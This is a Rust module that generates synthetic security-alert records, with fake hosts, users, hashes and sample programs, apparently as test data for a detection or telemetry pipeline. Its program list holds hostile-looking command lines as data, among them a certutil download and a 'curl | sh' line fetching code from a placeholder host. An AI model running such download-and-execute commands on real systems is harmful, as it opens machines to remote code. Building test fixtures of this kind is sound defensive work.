//! Who and what a record is about. Everything in one record agrees on it.

use rand::Rng;
use rand::rngs::StdRng;

/// A device of the tenant.
#[derive(Debug)]
pub(super) struct Host {
    pub(super) name: String,
    pub(super) dns: String,
    pub(super) device_id: String,
    pub(super) azure_id: String,
    pub(super) ip: String,
    pub(super) group: &'static str,
}

/// A user of the tenant.
#[derive(Debug)]
pub(super) struct User {
    pub(super) name: String,
    pub(super) display: String,
    pub(super) upn: String,
    pub(super) sid: String,
    pub(super) azure_id: String,
}

/// A program, good or bad.
#[derive(Debug)]
pub(super) struct Program {
    pub(super) file: &'static str,
    pub(super) folder: &'static str,
    pub(super) command: &'static str,
}

/// The tenant's people and machines.
#[derive(Debug)]
pub(super) struct Cast {
    hosts: Vec<Host>,
    users: Vec<User>,
}

/// What one record is about.
#[derive(Debug)]
pub(super) struct Scene<'a> {
    pub(super) host: &'a Host,
    pub(super) user: &'a User,
    pub(super) program: &'static Program,
    pub(super) tenant: &'a str,
    pub(super) outer_ip: String,
    pub(super) sha1: String,
    pub(super) sha256: String,
    pub(super) md5: String,
    pub(super) guid: String,
    /// When the evidence was made, in ticks.
    pub(super) at: i64,
}

const PROGRAMS: [Program; 6] = [
    Program {
        file: "powershell.exe",
        folder: "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
        command: "powershell.exe -NoProfile -Command \"& {Get-Item 'a|b=c'}\"",
    },
    Program {
        file: "rundll32.exe",
        folder: "C:\\Windows\\System32",
        command: "rundll32.exe sample.dll,Start",
    },
    Program {
        file: "invoice.docm.exe",
        folder: "C:\\Users\\Public\\Downloads",
        command: "\"C:\\Users\\Public\\Downloads\\invoice.docm.exe\" /s",
    },
    Program {
        file: "certutil.exe",
        folder: "C:\\Windows\\System32",
        command: "certutil -urlcache -f https://files.example/a.bin a.bin",
    },
    Program {
        file: "bash",
        folder: "/usr/bin",
        command: "bash -c 'curl -s https://files.example/x | sh'",
    },
    Program {
        file: "wmic.exe",
        folder: "C:\\Windows\\System32\\wbem",
        command: "wmic process call create \"calc\"",
    },
];

const GROUPS: [&str; 3] = ["Workstations", "Servers", "UnassignedGroup"];
const NAMES: [&str; 8] = [
    "Ada", "Björn", "Chiara", "Dmitri", "Eszter", "Farah", "Grace", "Hiro",
];

impl Cast {
    pub(super) fn new(rng: &mut StdRng) -> Self {
        Self {
            hosts: (0..60).map(|n| host(n, rng)).collect(),
            users: (0..40).map(|n| user(n, rng)).collect(),
        }
    }

    pub(super) fn scene<'a>(&'a self, rng: &mut StdRng, tenant: &'a str, at: i64) -> Scene<'a> {
        let place = rng.random_range(0..self.hosts.len());
        Scene {
            host: &self.hosts[place],
            user: &self.users[rng.random_range(0..self.users.len())],
            program: &PROGRAMS[rng.random_range(0..PROGRAMS.len())],
            tenant,
            outer_ip: format!("203.0.113.{}", rng.random_range(1..255)),
            sha1: hex(rng, 40),
            sha256: hex(rng, 64),
            md5: hex(rng, 32),
            guid: guid(rng),
            at,
        }
    }
}

fn host(n: usize, rng: &mut StdRng) -> Host {
    let name = format!("pc{n:03}");
    Host {
        dns: format!("{name}.corp.example"),
        name,
        device_id: hex(rng, 40),
        azure_id: guid(rng),
        ip: format!("10.20.{}.{}", n / 200, n % 200 + 10),
        group: GROUPS[n % GROUPS.len()],
    }
}

fn user(n: usize, rng: &mut StdRng) -> User {
    let first = NAMES[n % NAMES.len()];
    let name = format!("{}{n}", first.to_lowercase().replace('ö', "oe"));
    User {
        display: format!("{first} Sample {n}"),
        upn: format!("{name}@corp.example"),
        sid: format!("S-1-5-21-1004336348-1177238915-682003330-{}", 1_100 + n),
        azure_id: guid(rng),
        name,
    }
}

/// So many random hex digits.
pub(super) fn hex(rng: &mut StdRng, digits: usize) -> String {
    const DIGITS: &[u8; 16] = b"0123456789abcdef";
    let mut text = String::with_capacity(digits);
    while text.len() < digits {
        let word: u64 = rng.random();
        text.extend(
            (0..16.min(digits - text.len()))
                .map(|n| char::from(DIGITS[(word >> (4 * n)) as usize & 15])),
        );
    }
    text
}

/// A random GUID.
pub(super) fn guid(rng: &mut StdRng) -> String {
    let mut text = hex(rng, 32);
    for place in [20, 16, 12, 8] {
        text.insert(place, '-');
    }
    text
}
